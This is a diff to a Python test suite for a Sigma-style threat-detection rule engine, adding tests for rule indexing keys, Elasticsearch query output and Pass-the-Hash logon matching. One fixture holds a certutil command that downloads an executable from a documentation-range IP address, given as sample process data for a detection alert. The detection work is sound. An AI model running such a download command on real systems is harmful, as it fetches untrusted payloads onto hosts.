@@ -82,7 +82,8 @@ def test_a_detection_alert_names_its_rule_fields_and_event() -> None:
         "rule.id": "5d1c2e64-3d8b-4c1e-9a53-0c5a2c1f6a01", "rule.name": "Certutil download",
         "rule.level": "high", "rule.type": "detection",
         "threat.technique.id": ["T1105", "T1059.001"], "event.ids": ["e1"],
-        "alert.matches": {"event.category": "process", "event.type": "start",
+        "alert.matches": {"winlog.channel": "Microsoft-Windows-Sysmon/Operational",
+                          "event.category": "process", "event.type": "start",
                           "process.executable": "C:\\Windows\\System32\\CertUtil.EXE",
                           "process.command_line": "certutil -URLcache -f http://203.0.113.9/a.exe"},
         "alert.group_key": "host.name=ws-01|organization.id=000.00.12.H45",
@@ -95,9 +96,9 @@ def test_a_detection_alert_names_its_rule_fields_and_event() -> None:
 def test_rules_are_indexed_by_what_they_cannot_match_without() -> None:
     ruleset = load_rule_text(CERTUTIL + "---\n" + FAILED_SSH)
     certutil, failed = ruleset.detections
-    assert certutil.key == IndexKey(BASENAME + "process.executable",
-                                    frozenset({"certutil.exe"}))
-    assert failed.key == IndexKey("process.name", frozenset({"sshd", "sshd-session"}))
+    assert certutil.keys == (IndexKey(BASENAME + "process.executable",
+                                      frozenset({"certutil.exe"})),)
+    assert failed.keys == (IndexKey("process.name", frozenset({"sshd", "sshd-session"})),)
     engine = RuleEngine(ruleset)
     assert engine.index.candidates(FieldView(ssh_failure(1))) == [failed]
     assert engine.index.candidates(FieldView(process_event("C:\\a\\cmd.exe", "x"))) == []
@@ -180,10 +181,35 @@ def test_settings_add_directories_disable_rules_and_fill_placeholders(tmp_path: 
     assert build_engine(settings).detect([event]) == []
 
 
+def test_keys_are_any_of_the_branches_and_substrings_of_wildcards() -> None:
+    ruleset = load_rule_text(CERTUTIL.replace(
+        "    Image|endswith: '\\certutil.exe'\n",
+        "    - Image|endswith: '\\certutil.exe'\n    - OriginalFileName: CertUtil.exe\n"
+        "  second:\n").replace("condition: selection", "condition: selection and second"))
+    assert [str(p) for p in ruleset.errors] == []
+    assert ruleset.detections[0].keys == (
+        IndexKey(BASENAME + "process.executable", frozenset({"certutil.exe"})),
+        IndexKey("process.pe.original_file_name", frozenset({"certutil.exe"})))
+    # On the auth log (a broad dataset key), keywords are the better keys: substrings of both
+    # fields that hold the whole record.
+    text = FAILED_SSH.split("---")[0].replace("service: sshd", "service: auth").replace(
+        "selection: {event.outcome: failure}", "keywords: ['*Failed password*', 'invalid user']"
+    ).replace("condition: selection", "condition: keywords")
+    words = frozenset({"failed password", "invalid user"})
+    assert load_rule_text(text).detections[0].keys == (
+        IndexKey("message", words, substring=True), IndexKey("log.original", words,
+                                                             substring=True))
+    engine = RuleEngine(load_rule_text(text))
+    hit = ssh_failure(1) | {"message": "Failed password for root"}
+    assert [r.info.name for r in engine.index.candidates(FieldView(hit))] == ["SSH failed login"]
+    assert engine.index.candidates(FieldView(ssh_failure(1) | {"message": "Accepted"})) == []
+
+
 def test_rules_as_elasticsearch_queries() -> None:
     certutil = load_rule_text(CERTUTIL).detections[0]
     assert rules.to_elasticsearch(certutil) == (
-        "(event.category:process AND event.type:start) AND "
+        "((winlog.channel:(Microsoft\\-Windows\\-Sysmon\\/Operational OR Security)) AND "
+        "event.category:process AND event.type:start) AND "
         "(process.executable.caseless:*\\\\certutil.exe AND "
         "(process.command_line:*\\-urlcache* AND process.command_line:*http*))")
 
@@ -203,3 +229,16 @@ def test_a_field_no_collector_writes_is_a_warning_and_the_rule_loads() -> None:
         "'procces.command_line' is written by no collector; the rule matches "
         "only events that carry it"]
     assert len(ruleset.detections) == 1 and ruleset.errors == []
+
+
+def test_one_of_selections_sharing_a_literal_still_test_each_whole_selection() -> None:
+    # SigmaHQ "Pass the Hash Activity 2": both selections need EventID 4624 — the OR of them is
+    # not "EventID is 4624".
+    rule = load_rule_text(
+        "title: pth\nid: 8eef149c-bd26-49f2-9e5a-9b00e3af499b\n"
+        "logsource: {product: windows, service: security}\n"
+        "detection:\n  sel_a: {EventID: 4624, LogonType: 3}\n"
+        "  sel_b: {EventID: 4624, LogonType: 9}\n  condition: 1 of sel_*\n").detections[0]
+    logon = {"winlog.channel": "Security", "event.code": "4624"}
+    assert rule.matches(logon | {"winlog.event_data.LogonType": "9"})
+    assert not rule.matches(logon | {"winlog.event_data.LogonType": "2"})
